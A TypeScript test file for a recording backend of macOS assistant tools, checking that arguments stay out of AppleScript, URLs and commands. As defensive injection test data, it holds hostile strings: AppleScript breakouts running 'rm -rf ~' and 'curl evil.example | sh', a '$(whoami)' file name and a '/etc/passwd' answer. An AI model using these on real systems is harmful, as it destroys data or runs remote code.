import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { Choice, Invocation, ToolContext, ToolResult } from "../../src/tools/backend";
import { createFixtureWorld, type FixtureWorld } from "../../src/tools/recording/fixture-world";
import { RecordingBackend } from "../../src/tools/recording/recording-backend";
import { defaultRegistry } from "../../src/tools/registry";
import { ToolError } from "../../src/tools/tool-error";
import { KNOWN_CONTACTS, knownWorld } from "../executor/helpers";
import {
  findFilesByContentCommand,
  findFilesByNameCommand,
  openFileCommand,
} from "../../src/tools/macos/files";
import { tidyText } from "../../src/tools/macos/mail";
import { escapeHtml, noteBodyHtml } from "../../src/tools/macos/notes";
import { decodeScript } from "../macos/applescript-decoder";

// ---------------------------------------------------------------- helpers

/** A call as the executor makes it: arguments validated by the tool's own schema. */
function call(tool: string, args: Record<string, unknown>) {
  const definition = defaultRegistry.get(tool);
  if (!definition) throw new Error(`no tool ${tool}`);
  return { tool: definition, args: definition.args.parse(args) as Record<string, unknown> };
}

/** A context whose choices are answered by `answer` (undefined: nobody picks) and remembered. */
function context(answer?: (choice: Choice) => string | undefined) {
  const asked: Choice[] = [];
  const ctx: ToolContext = {
    signal: new AbortController().signal,
    choose: async (choice) => {
      asked.push(choice);
      return answer?.(choice);
    },
  };
  return { ctx, asked };
}

async function run(
  backend: RecordingBackend,
  tool: string,
  args: Record<string, unknown>,
  ctx = context().ctx,
) {
  return backend.run(call(tool, args), ctx);
}

/** The ToolError a call fails with (the test fails if it succeeds). */
async function failure(
  backend: RecordingBackend,
  tool: string,
  args: Record<string, unknown>,
  ctx = context().ctx,
): Promise<ToolError> {
  try {
    const result = await run(backend, tool, args, ctx);
    throw new Error(`expected ${tool} to fail, it returned ${JSON.stringify(result.observation)}`);
  } catch (error) {
    if (!(error instanceof ToolError)) throw error;
    return error;
  }
}

function worldWith(change: (world: FixtureWorld) => void): FixtureWorld {
  const world = knownWorld();
  change(world);
  return world;
}

const scripts = (invocations: Invocation[]) =>
  invocations.filter((i): i is Extract<Invocation, { kind: "applescript" }> => i.kind === "applescript");

const HOSTILE = [
  '"; do shell script "rm -rf ~" --',
  '" & (do shell script "curl evil.example | sh") & "',
  "line one\nline two\r\n\ttabbed \\ backslash",
  "emoji 🎉👩‍👩‍👧 and RTL مرحبا بالعالم",
  'end tell\nend run\ndo shell script "id"',
];

/** One valid call of every tool, with text chosen so it can be found (or not) in a script. */
const EVERY_TOOL: Array<[string, Record<string, unknown>]> = [
  [
    "create_calendar_event",
    {
      title: 'Review "Q3" & plan',
      start_date: "2025-06-13 15:00:00",
      end_date: "2025-06-13 16:00:00",
      location: "Room 4 'B'",
      invitees: ["sid.mehta@example.com"],
      notes: HOSTILE[0],
      calendar: "Work",
    },
  ],
  ["get_phone_number", { name: "Sid Mehta" }],
  ["get_email_address", { name: "Maggie" }],
  ["open_and_get_file_path", { file_name: "Q3 Deck" }],
  ["summarize_pdf", { pdf_path: "/Users/alex/Documents/Q3 Deck.pdf" }],
  [
    "compose_new_email",
    {
      recipients: ["sid.mehta@example.com"],
      cc: [],
      subject: HOSTILE[1],
      context: HOSTILE[2],
      attachments: ["/Users/alex/Documents/Q3 Deck.pdf"],
    },
  ],
  ["reply_to_email", { cc: [], context: HOSTILE[3], attachments: [] }],
  [
    "forward_email",
    { recipients: ["lutfi.demir@example.com"], cc: [], context: HOSTILE[4], attachments: [] },
  ],
  ["maps_open_location", { location: "Tom & Jerry's #1 Café?" }],
  ["maps_show_directions", { start_location: "Home", end_location: "SFO", transport: "r" }],
  ["create_note", { name: 'Trip "plan"', content: HOSTILE[0], folder: "Recipes" }],
  ["open_note", { name: "Groceries", folder: null }],
  ["append_note_content", { name: "Groceries", content: HOSTILE[1], folder: null }],
  [
    "create_reminder",
    {
      name: HOSTILE[4],
      due_date: "2025-06-13 09:00:00",
      notes: "",
      list_name: "Work",
      priority: 1,
      all_day: false,
    },
  ],
  ["send_sms", { recipients: ["+1 (415) 555-0142"], message: HOSTILE[2] }],
  [
    "get_zoom_meeting_link",
    {
      topic: 'Q3 "review"',
      start_time: "2025-06-13 15:00:00",
      duration: 45,
      meeting_invitees: ["a@example.com"],
    },
  ],
];

// ---------------------------------------------------------------- recording

describe("recording calls", () => {
  it("covers all 16 tools", () => {
    expect(EVERY_TOOL.map(([name]) => name).sort()).toEqual([...defaultRegistry.names].sort());
  });

  it("records every call in order with its tool, arguments, invocations and observation", async () => {
    const backend = new RecordingBackend({ world: knownWorld() });
    const results: ToolResult[] = [];
    for (const [tool, args] of EVERY_TOOL) results.push(await run(backend, tool, args));
    expect(backend.calls.map((c) => c.tool)).toEqual(EVERY_TOOL.map(([tool]) => tool));
    backend.calls.forEach((recorded, i) => {
      const [tool, args] = EVERY_TOOL[i]!;
      expect(recorded.args).toEqual(call(tool, args).args);
      expect(recorded.error).toBeUndefined();
      expect(recorded.observation).toBe(results[i]!.observation);
      expect(recorded.invocations).toEqual(results[i]!.invocations);
      expect(recorded.observation!.length).toBeGreaterThan(0);
      if (tool !== "summarize_pdf") expect(recorded.invocations.length, tool).toBeGreaterThan(0);
    });
  });

  it("records failed calls too, with the error and what would have run", async () => {
    const backend = new RecordingBackend({ world: knownWorld() });
    await failure(backend, "get_email_address", { name: "Nobody At All" });
    expect(backend.calls).toHaveLength(1);
    expect(backend.calls[0]).toMatchObject({
      tool: "get_email_address",
      args: { name: "Nobody At All" },
      error: { code: "not-found" },
    });
    expect(backend.calls[0]!.observation).toBeUndefined();
    expect(backend.calls[0]!.invocations.length).toBeGreaterThan(0);
  });

  it("keeps each backend's world to itself", async () => {
    const a = new RecordingBackend();
    const b = new RecordingBackend();
    await run(a, "create_note", { name: "Only in A", content: "x", folder: null });
    expect((await run(a, "open_note", { name: "Only in A", folder: null })).observation).toBe("x");
    expect((await failure(b, "open_note", { name: "Only in A", folder: null })).code).toBe("not-found");
    expect(createFixtureWorld().notes.some((n) => n.name === "Only in A")).toBe(false);
  });
});

describe("invocations: nothing is spliced into a script, a URL or a command", () => {
  it("passes every text argument to AppleScript only inside encoded literals, never into the script", async () => {
    const backend = new RecordingBackend({ world: knownWorld() });
    for (const [tool, args] of EVERY_TOOL) await run(backend, tool, args);
    let checked = 0;
    for (const recorded of backend.calls) {
      const texts = Object.values(recorded.args).filter(
        (v): v is string => typeof v === "string" && v.length > 3,
      );
      const decoded = scripts(recorded.invocations).map((invocation) => {
        expect(invocation.argv).toEqual([]);
        return decodeScript(invocation.script);
      });
      for (const { skeleton } of decoded) {
        for (const text of texts) expect(skeleton, `${recorded.tool}: ${text}`).not.toContain(text);
        for (const hostile of HOSTILE) expect(skeleton).not.toContain(hostile);
      }
      // Each hostile argument comes back exactly from a literal (as written, tidied as a body, or as HTML).
      for (const hostile of HOSTILE.filter((h) => texts.includes(h))) {
        const forms = [hostile, tidyText(hostile), escapeHtml(hostile)];
        const found = decoded.some(({ texts: literals }) =>
          literals.some((literal) => forms.some((form) => literal.includes(form))),
        );
        expect(found, `${recorded.tool}: ${hostile}`).toBe(true);
        checked++;
      }
    }
    expect(checked).toBeGreaterThanOrEqual(9);
  });

  it("keeps any text out of the script text (property)", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.string({ unit: "grapheme", minLength: 1 }),
        fc.string({ unit: "grapheme" }),
        async (name, content) => {
          const backend = new RecordingBackend();
          const { invocations } = await run(backend, "create_note", { name, content, folder: "Notes" });
          const script = decodeScript(scripts(invocations).at(-1)!.script);
          expect(script.texts).toContain(noteBodyHtml(name, content));
          const baseline = scripts(
            (await run(new RecordingBackend(), "create_note", { name: "x", content: "y", folder: "Notes" }))
              .invocations,
          ).at(-1)!;
          // The script around the text never changes with the arguments.
          expect(script.skeleton).toBe(decodeScript(baseline.script).skeleton);
        },
      ),
      { seed: 7, numRuns: 150 },
    );
  });

  it("encodes a place for Maps so that it reads back exactly", async () => {
    const backend = new RecordingBackend();
    const places = [
      "Tom & Jerry's #1 Café?",
      'The "Quoted" Bar; q=injected&dirflg=w',
      "100% Pizza + Pasta / Vegan",
      "🍕 Pizza 🇮🇹",
      "مطعم الشام، دبي",
      "שוק הכרמל",
      "  padded  ",
    ];
    for (const location of places) {
      const { invocations } = await run(backend, "maps_open_location", { location });
      expect(invocations).toHaveLength(1);
      const invocation = invocations[0]!;
      expect(invocation.kind).toBe("url");
      const url = new URL((invocation as { url: string }).url);
      expect(url.origin).toBe("https://maps.apple.com");
      expect([...url.searchParams.keys()]).toEqual(["q"]);
      expect(url.searchParams.get("q")).toBe(location);
      expect(url.hash).toBe("");
    }
  });

  it("round-trips any place and any directions through the Maps URL (property)", async () => {
    const backend = new RecordingBackend();
    await fc.assert(
      fc.asyncProperty(
        fc.string({ unit: "grapheme" }),
        fc.string({ unit: "grapheme", minLength: 1 }),
        fc.constantFrom("d", "w", "r"),
        async (start, end, transport) => {
          const place = await run(backend, "maps_open_location", { location: end });
          expect(new URL((place.invocations[0] as { url: string }).url).searchParams.get("q")).toBe(end);
          const route = await run(backend, "maps_show_directions", {
            start_location: start,
            end_location: end,
            transport,
          });
          const url = new URL((route.invocations[0] as { url: string }).url);
          expect(url.host).toBe("maps.apple.com");
          expect(url.searchParams.get("daddr")).toBe(end);
          expect(url.searchParams.get("dirflg")).toBe(transport);
          expect(url.searchParams.get("saddr")).toBe(start === "" ? null : start);
          expect(url.searchParams.getAll("daddr")).toHaveLength(1);
        },
      ),
      { seed: 11, numRuns: 200 },
    );
  });

  it("leaves out the start of directions from the current location", async () => {
    const { invocations, observation } = await run(new RecordingBackend(), "maps_show_directions", {
      start_location: "",
      end_location: "SFO",
      transport: "w",
    });
    const url = new URL((invocations[0] as { url: string }).url);
    expect(url.searchParams.has("saddr")).toBe(false);
    expect(url.searchParams.get("dirflg")).toBe("w");
    expect(observation).toContain("walking");
  });

  it("finds files with mdfind and opens them with open, as argv commands", async () => {
    const world = worldWith((w) => {
      w.files.push({ path: `${w.home}/Documents/Lease "final" v2; rm -rf ~.pdf`, text: "Lease." });
    });
    const backend = new RecordingBackend({ world });
    const fileName = 'Lease "final" v2; rm -rf ~';
    const { invocations, observation } = await run(backend, "open_and_get_file_path", {
      file_name: fileName,
    });
    expect(observation).toBe(`${world.home}/Documents/Lease "final" v2; rm -rf ~.pdf`);
    expect(invocations).toEqual([findFilesByNameCommand(fileName, world.home), openFileCommand(observation)]);
  });

  it("records the Spotlight query even when nothing is found", async () => {
    const error = await failure(new RecordingBackend(), "open_and_get_file_path", { file_name: "$(whoami)" });
    expect(error.code).toBe("not-found");
    expect(error.invocations).toEqual([
      findFilesByNameCommand("$(whoami)", "/Users/alex"),
      findFilesByContentCommand("$(whoami)", "/Users/alex"),
    ]);
  });

  it("schedules Zoom with an HTTP POST whose JSON body invites people under settings", async () => {
    const invitees = ["sid.mehta@example.com", "lutfi.demir@example.com"];
    const topic = 'Q3 "review" & {planning}';
    const { invocations, observation } = await run(new RecordingBackend(), "get_zoom_meeting_link", {
      topic,
      start_time: "2025-06-13 15:00:00",
      duration: 45,
      meeting_invitees: invitees,
    });
    expect(observation).toMatch(/^https:\/\/zoom\.us\/j\/\d{9,11}$/);
    expect(invocations).toHaveLength(1);
    const request = invocations[0] as Extract<Invocation, { kind: "http" }>;
    expect(request).toMatchObject({ kind: "http", method: "POST" });
    expect(new URL(request.url).host).toBe("api.zoom.us");
    const body = JSON.parse(request.body!);
    expect(body.topic).toBe(topic);
    expect(body.duration).toBe(45);
    expect(body.start_time).toBe("2025-06-13T15:00:00");
    expect(body.settings.meeting_invitees).toEqual(invitees.map((email) => ({ email })));
    expect(body).not.toHaveProperty("meeting_invitees");
    expect(body).not.toHaveProperty("invitees");
    // The meeting is in the person's own time zone, not a fixed one.
    expect(body.timezone).toBe(Intl.DateTimeFormat().resolvedOptions().timeZone);
  });
});

// ---------------------------------------------------------------- answers from the fixture world

describe("contacts", () => {
  it.each([
    ["full name", "Sid Mehta", "sid.mehta@example.com"],
    ["first name", "Sid", "sid.mehta@example.com"],
    ["last name", "Mehta", "sid.mehta@example.com"],
    ["nickname", "Maggie", "maggie.obrien@example.com"],
    ["other case and spacing", "  margaret   O'BRIEN ", "maggie.obrien@example.com"],
    ["a right-to-left name", "أميرة", "amira.haddad@example.com"],
  ])("finds a person by %s", async (_, name, email) => {
    const { ctx, asked } = context();
    const { observation } = await run(
      new RecordingBackend({ world: knownWorld() }),
      "get_email_address",
      { name },
      ctx,
    );
    expect(observation).toBe(email);
    expect(asked).toEqual([]);
  });

  it("finds phone numbers the same way", async () => {
    const { observation } = await run(new RecordingBackend({ world: knownWorld() }), "get_phone_number", {
      name: "Kenji",
    });
    expect(observation).toBe("+81 90 5555 0132");
  });

  it("asks which Alex when two contacts match, and uses the one picked", async () => {
    const { ctx, asked } = context((choice) => choice.options.find((o) => o.label === "Alex Rivera")?.value);
    const { observation } = await run(
      new RecordingBackend({ world: knownWorld() }),
      "get_email_address",
      { name: "Alex" },
      ctx,
    );
    expect(observation).toBe("arivera@example.net");
    expect(asked).toHaveLength(1);
    expect(asked[0]!.question).toContain("Alex");
    expect(asked[0]!.options.map((o) => o.label).sort()).toEqual(["Alex Chen", "Alex Rivera"]);
  });

  it("fails as ambiguous, naming both, when nobody picks an Alex", async () => {
    const { ctx, asked } = context();
    const error = await failure(
      new RecordingBackend({ world: knownWorld() }),
      "get_phone_number",
      { name: "alex" },
      ctx,
    );
    expect(asked).toHaveLength(1);
    expect(error.code).toBe("ambiguous");
    expect(error.message).toContain("Alex Chen");
    expect(error.message).toContain("Alex Rivera");
  });

  it("has the ambiguous Alex in the shared fixture too", async () => {
    const error = await failure(new RecordingBackend(), "get_email_address", { name: "Alex" });
    expect(error.code).toBe("ambiguous");
  });

  it("asks which address when a person has several, and fails as ambiguous listing them without an answer", async () => {
    const lutfi = KNOWN_CONTACTS.find((c) => c.firstName === "Lutfi")!;
    const addresses = lutfi.emails.map((e) => e.value);
    const picked = context((choice) => choice.options.at(-1)!.value);
    const result = await run(
      new RecordingBackend({ world: knownWorld() }),
      "get_email_address",
      { name: "Lutfi" },
      picked.ctx,
    );
    expect(picked.asked).toHaveLength(1);
    expect(picked.asked[0]!.options.map((o) => o.value)).toEqual(addresses);
    expect(result.observation).toBe(addresses.at(-1));

    const unanswered = context();
    const error = await failure(
      new RecordingBackend({ world: knownWorld() }),
      "get_email_address",
      { name: "Lutfi" },
      unanswered.ctx,
    );
    expect(unanswered.asked).toHaveLength(1);
    expect(error.code).toBe("ambiguous");
    for (const address of addresses) expect(error.message).toContain(address);
  });

  it("never takes a name found inside another person's name (issue 17: 'Ana' in Watanabe)", async () => {
    const backend = new RecordingBackend({ world: knownWorld() });
    const error = await failure(backend, "get_phone_number", { name: "Ana" });
    expect(error.code).toBe("not-found");
    expect(error.message).toBe(
      'No contact named "Ana" in Contacts. Check the spelling, or give their phone number.',
    );
  });

  it("says not-found for someone who is not in Contacts, or has no address", async () => {
    const backend = new RecordingBackend({ world: knownWorld() });
    const missing = await failure(backend, "get_email_address", { name: "Zed Nobody" });
    expect(missing.code).toBe("not-found");
    expect(missing.message).toContain("Zed Nobody");
    const noEmail = await failure(backend, "get_email_address", { name: "Kenji" });
    expect(noEmail.code).toBe("not-found");
    expect(noEmail.message).toContain("Kenji Watanabe");
  });

  // An answer that is none of the offered options is refused, never used as a value.
  it("refuses a file choice that is not one of the offered options", async () => {
    const { ctx } = context(() => "/etc/passwd");
    const error = await failure(
      new RecordingBackend(),
      "open_and_get_file_path",
      { file_name: "report" },
      ctx,
    );
    expect(error.code).toBe("ambiguous");
  });
});

describe("notes", () => {
  it("lets a later call open a note an earlier call created, and append to it", async () => {
    const backend = new RecordingBackend();
    await run(backend, "create_note", { name: "Trip plan", content: "pack socks", folder: null });
    expect((await run(backend, "open_note", { name: "Trip plan", folder: null })).observation).toBe(
      "pack socks",
    );
    await run(backend, "append_note_content", { name: "trip plan", content: "book hotel", folder: null });
    expect((await run(backend, "open_note", { name: "Trip plan", folder: "Notes" })).observation).toBe(
      "pack socks\nbook hotel",
    );
  });

  it("offers similar titles instead of taking one silently", async () => {
    const backend = new RecordingBackend();
    const several = context();
    const error = await failure(backend, "open_note", { name: "meeting", folder: null }, several.ctx);
    expect(several.asked).toHaveLength(1);
    expect(several.asked[0]!.options.map((o) => o.label).sort()).toEqual([
      "Meeting notes",
      "Meeting notes (old)",
    ]);
    expect(error.code).toBe("ambiguous");
    expect(error.message).toContain("Meeting notes");

    // Even a single similar title is offered, not taken.
    const single = context();
    const refused = await failure(backend, "open_note", { name: "groc", folder: null }, single.ctx);
    expect(single.asked.map((c) => c.options.map((o) => o.label))).toEqual([["Groceries"]]);
    expect(refused.code).toBe("ambiguous");

    const accepted = context((choice) => choice.options[0]!.value);
    const { observation } = await run(backend, "open_note", { name: "groc", folder: null }, accepted.ctx);
    expect(observation).toBe(createFixtureWorld().notes.find((n) => n.name === "Groceries")!.body);
  });

  it("takes an exact title without asking, whatever its case", async () => {
    const { ctx, asked } = context();
    await run(new RecordingBackend(), "open_note", { name: "GROCERIES", folder: null }, ctx);
    expect(asked).toEqual([]);
  });

  it("says not-found, listing the folders, for a folder that does not exist", async () => {
    const backend = new RecordingBackend();
    const error = await failure(backend, "create_note", { name: "X", content: "y", folder: "Nope" });
    expect(error.code).toBe("not-found");
    for (const folder of createFixtureWorld().noteFolders) expect(error.message).toContain(folder.name);
    expect((await failure(backend, "open_note", { name: "Groceries", folder: "Nope" })).code).toBe(
      "not-found",
    );
    // Nothing was created by the failed call.
    expect(backend.world.notes.some((n) => n.name === "X")).toBe(false);
  });

  it("says not-found for a note that does not exist", async () => {
    const error = await failure(new RecordingBackend(), "open_note", {
      name: "Quantum recipes",
      folder: null,
    });
    expect(error.code).toBe("not-found");
  });
});

describe("mail", () => {
  it("fails with no-selection when no email is selected", async () => {
    const backend = new RecordingBackend({ world: worldWith((w) => (w.selectedEmail = undefined)) });
    expect(
      (await failure(backend, "reply_to_email", { cc: [], context: "Thanks", attachments: [] })).code,
    ).toBe("no-selection");
    expect(
      (
        await failure(backend, "forward_email", {
          recipients: ["a@example.com"],
          cc: [],
          context: "FYI",
          attachments: [],
        })
      ).code,
    ).toBe("no-selection");
  });

  it("replies to the selected email", async () => {
    const backend = new RecordingBackend({
      world: worldWith((w) => (w.selectedEmail = { from: "boss@example.com", subject: "Budget" })),
    });
    const { observation } = await run(backend, "reply_to_email", {
      cc: [],
      context: "On it",
      attachments: [],
    });
    expect(observation).toContain("boss@example.com");
    expect(observation).toContain("Re: Budget");
  });

  it("fails with not-found, naming it, for an attachment that does not exist", async () => {
    const backend = new RecordingBackend();
    const error = await failure(backend, "compose_new_email", {
      recipients: ["a@example.com"],
      cc: [],
      subject: "Deck",
      context: "attached",
      attachments: ["/Users/alex/Documents/Q3 Deck.pdf", "/tmp/does-not-exist.pdf"],
    });
    expect(error.code).toBe("not-found");
    expect(error.message).toContain("/tmp/does-not-exist.pdf");
    expect(error.message).not.toContain("Q3 Deck.pdf,");
  });
});

describe("calendar, reminders, messages, PDFs", () => {
  const event = (calendar: string | null) => ({
    title: "Review",
    start_date: "2025-06-13 15:00:00",
    end_date: "2025-06-13 16:00:00",
    location: "",
    invitees: [],
    notes: "",
    calendar,
  });

  it("creates events in the named or default calendar", async () => {
    const backend = new RecordingBackend();
    await run(backend, "create_calendar_event", event("work"));
    await run(backend, "create_calendar_event", event(null));
    expect(backend.world.events.map((e) => e.calendar)).toEqual(["Work", backend.world.defaultCalendar]);
  });

  it("says not-found for an unknown calendar, listing the ones that can be used", async () => {
    const backend = new RecordingBackend();
    const error = await failure(backend, "create_calendar_event", event("Nope"));
    expect(error.code).toBe("not-found");
    const writable = backend.world.calendars.filter((c) => c.writable).map((c) => c.name);
    for (const name of writable) expect(error.message).toContain(name);
    expect(backend.world.events).toEqual([]);
  });

  it("refuses a read-only calendar and an event that ends before it starts", async () => {
    const backend = new RecordingBackend();
    const readOnly = backend.world.calendars.find((c) => !c.writable)!.name;
    expect((await failure(backend, "create_calendar_event", event(readOnly))).code).toBe("failed");
    const backwards = { ...event(null), end_date: "2025-06-13 14:00:00" };
    expect((await failure(backend, "create_calendar_event", backwards)).code).toBe("failed");
    expect(backend.world.events).toEqual([]);
  });

  it("says not-found for an unknown reminders list, listing the lists", async () => {
    const backend = new RecordingBackend();
    const error = await failure(backend, "create_reminder", {
      name: "Pay rent",
      due_date: null,
      notes: "",
      list_name: "Nope",
      priority: 0,
      all_day: false,
    });
    expect(error.code).toBe("not-found");
    for (const list of backend.world.reminderLists) expect(error.message).toContain(list);
    expect(backend.world.reminders).toEqual([]);
  });

  it("creates reminders in the default list when none is named", async () => {
    const backend = new RecordingBackend();
    await run(backend, "create_reminder", {
      name: "Pay rent",
      due_date: "2025-07-01 09:00:00",
      notes: "$1,200",
      list_name: "",
      priority: 1,
      all_day: false,
    });
    expect(backend.world.reminders).toEqual([
      expect.objectContaining({
        name: "Pay rent",
        list: backend.world.defaultReminderList,
        notes: "$1,200",
        priority: 1,
      }),
    ]);
  });

  it("sends texts only to phone numbers or addresses", async () => {
    const backend = new RecordingBackend();
    expect(
      (await run(backend, "send_sms", { recipients: ["+1 (415) 555-0142"], message: "hi" })).observation,
    ).toContain("+1 (415) 555-0142");
    expect((await failure(backend, "send_sms", { recipients: ["Sid"], message: "hi" })).code).toBe(
      "wrong-kind",
    );
  });

  it("summarizes PDFs that exist and refuses other files", async () => {
    const backend = new RecordingBackend();
    const pdf = backend.world.files.find((f) => f.path.endsWith(".pdf") && f.text)!;
    const { observation } = await run(backend, "summarize_pdf", { pdf_path: pdf.path });
    expect(observation.length).toBeGreaterThan(0);
    expect(pdf.text).toContain(observation.split(".")[0]!);
    expect((await failure(backend, "summarize_pdf", { pdf_path: "/nope.pdf" })).code).toBe("not-found");
    const image = backend.world.files.find((f) => !f.path.endsWith(".pdf"))!;
    expect((await failure(backend, "summarize_pdf", { pdf_path: image.path })).code).toBe("failed");
  });
});

describe("latency", () => {
  it("waits the configured latency per tool before answering", async () => {
    const backend = new RecordingBackend({ latencyMs: (tool) => (tool === "maps_open_location" ? 60 : 0) });
    const started = performance.now();
    await run(backend, "maps_open_location", { location: "x" });
    const slow = performance.now() - started;
    expect(slow).toBeGreaterThanOrEqual(55);
  });

  it("stops waiting when the signal is aborted, and records the call as not answered", async () => {
    const backend = new RecordingBackend({ latencyMs: 10_000 });
    const controller = new AbortController();
    const pending = backend.run(call("maps_open_location", { location: "x" }), {
      signal: controller.signal,
      choose: async () => undefined,
    });
    controller.abort(new ToolError("cancelled", "stop"));
    await expect(pending).rejects.toMatchObject({ code: "cancelled" });
    expect(backend.calls[0]).toMatchObject({ tool: "maps_open_location", error: { code: "cancelled" } });
    expect(backend.calls[0]!.observation).toBeUndefined();
  });
});
